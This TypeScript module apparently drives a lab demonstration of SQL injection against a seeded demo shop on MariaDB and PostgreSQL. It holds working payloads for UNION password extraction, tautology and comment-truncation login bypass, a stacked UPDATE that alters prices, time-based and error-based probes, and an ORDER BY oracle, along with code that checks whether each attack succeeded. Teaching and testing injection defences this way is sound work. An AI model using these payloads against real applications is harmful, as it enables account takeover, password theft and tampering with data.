import { ADMIN_EMAIL, SECRET_PREFIX } from "./seed.ts";
import type { StoreName } from "./stores.ts";
import type { Reply } from "./worker.ts";

// A handful of classic injections against the shop. Each knows what success looks like, so the report
// says what the attacker got, not only what was sent.

export type Outcome =
  | { kind: "succeeded"; got: string }
  /** The application received an SQL error, and the attacker nothing. */
  | { kind: "refused"; error: string; code: string }
  | { kind: "nothing"; because: string };

export type Attempt = {
  name: string;
  database: StoreName;
  input: string;
  outcome: Outcome;
  tookMs: number;
  worker: number;
};

export type Attack = {
  name: string;
  path: string;
  fields(database: StoreName): Record<string, string>;
  /** What the attacker got, or undefined for nothing. */
  got(reply: Reply, sent: Sent): string | undefined | Promise<string | undefined>;
};

type Sent = { fields: Record<string, string>; tookMs: number; shop: Shop };

const SLEEP_MS = 1_500;
const cents = (): string => (Math.floor(Math.random() * 90_000 + 10_000) / 100).toFixed(2);

const leakedPassword = (reply: Reply): string | undefined => {
  const text = JSON.stringify(reply.rows ?? reply.error?.message ?? "");
  const secrets = text.match(new RegExp(`${SECRET_PREFIX}\\w+`, "g")) ?? [];
  return secrets.length === 0 ? undefined : `${secrets.length} passwords, the first is ${secrets[0]}`;
};

export const ATTACKS: Attack[] = [
  {
    name: "UNION graft",
    path: "/search",
    // The third column must be a number for PostgreSQL, so both secrets go into the second.
    fields: () => ({ q: "' UNION SELECT id, CONCAT(email, ' ', password), 0 FROM customers-- " }),
    got: leakedPassword,
  },
  {
    name: "tautology login",
    path: "/login",
    fields: () => ({ email: "nobody' OR '1'='1", password: "x' OR '1'='1" }),
    got: reply =>
      reply.rows?.length
        ? `logged in as ${reply.rows[0]!.email}, ${reply.rows.length} accounts shown`
        : undefined,
  },
  {
    name: "comment truncation",
    path: "/login",
    fields: () => ({ email: `${ADMIN_EMAIL}'-- `, password: "" }),
    got: reply =>
      reply.rows?.some(row => row.role === "admin") ? "logged in as the administrator" : undefined,
  },
  {
    name: "stacked statement",
    path: "/product",
    fields: () => ({ id: `7; UPDATE products SET price = ${cents()} WHERE id = 7` }),
    got: async (reply, { fields, shop }) => {
      const after = await shop.ask("/product", { id: "7" }, reply.database);
      const price = Number(after.rows?.[0]?.price).toFixed(2);
      return fields.id?.includes(price) ? `product 7 now costs ${price}` : undefined;
    },
  },
  {
    name: "time-based probe",
    path: "/product",
    fields: database => ({
      id:
        database === "mariadb"
          ? `7 AND SLEEP(${SLEEP_MS / 1000}) = 0`
          : `7 AND (SELECT 1 FROM pg_sleep(${SLEEP_MS / 1000})) = 1`,
    }),
    got: (_, { tookMs }) =>
      tookMs >= SLEEP_MS ? `the database slept on command (${Math.round(tookMs)} ms)` : undefined,
  },
  {
    name: "error-based extraction",
    path: "/product",
    fields: database => ({
      id:
        database === "mariadb"
          ? "7 AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT password FROM customers WHERE id = 1)))"
          : "7 AND CAST((SELECT password FROM customers WHERE id = 1) AS int) = 1",
    }),
    got: leakedPassword,
  },
  {
    name: "order by oracle",
    path: "/products",
    fields: () => ({
      sort: `(CASE WHEN (SELECT COUNT(*) FROM customers WHERE password LIKE '${SECRET_PREFIX}%') > 0 THEN id ELSE -id END)`,
    }),
    got: reply =>
      Number(reply.rows?.[0]?.id) === 1 ? "one bit about the passwords, by the order of the list" : undefined,
  },
];

export type Shop = { ask(path: string, fields: Record<string, string>, database: StoreName): Promise<Reply> };

export function shopAt(address: string): Shop {
  return {
    async ask(path, fields, database) {
      const body = new URLSearchParams({ ...fields, db: database });
      // A connection per request: else a few kept ones would tie every visitor to the same few workers.
      const response = await fetch(new URL(path, address), {
        method: "POST",
        body,
        headers: { connection: "close" },
        signal: AbortSignal.timeout(10_000),
      });
      return (await response.json()) as Reply;
    },
  };
}

export async function attempt(shop: Shop, attack: Attack, database: StoreName): Promise<Attempt> {
  const fields = attack.fields(database);
  const began = performance.now();
  const reply = await shop.ask(attack.path, fields, database);
  const tookMs = performance.now() - began;
  const got = await attack.got(reply, { fields, tookMs, shop });
  return {
    name: attack.name,
    database,
    input: Object.entries(fields)
      .map(([name, value]) => `${name}=${value}`)
      .join("&"),
    outcome: outcome(reply, got),
    tookMs,
    worker: reply.worker,
  };
}

function outcome(reply: Reply, got: string | undefined): Outcome {
  if (got !== undefined) return { kind: "succeeded", got };
  if (reply.error !== undefined)
    return { kind: "refused", error: reply.error.message, code: reply.error.code };
  return { kind: "nothing", because: `${reply.rows?.length ?? 0} rows, none of them secret` };
}

export async function attackAll(
  shop: Shop,
  databases: StoreName[] = ["mariadb", "postgresql"],
): Promise<Attempt[]> {
  const attempts: Attempt[] = [];
  for (const attack of ATTACKS) {
    for (const database of databases) attempts.push(await attempt(shop, attack, database));
  }
  return attempts;
}

export function describe({ name, database, outcome }: Attempt): string {
  const what = `${name} on ${database}`;
  switch (outcome.kind) {
    case "succeeded":
      return `${what}: SUCCEEDED, ${outcome.got}`;
    case "refused":
      return `${what}: the application saw "${outcome.error}" (${outcome.code})`;
    case "nothing":
      return `${what}: got nothing (${outcome.because})`;
  }
}

if (import.meta.filename === process.argv[1]) {
  for (const result of await attackAll(shopAt(process.argv[2] ?? "http://127.0.0.1:8080")))
    console.log(describe(result));
}
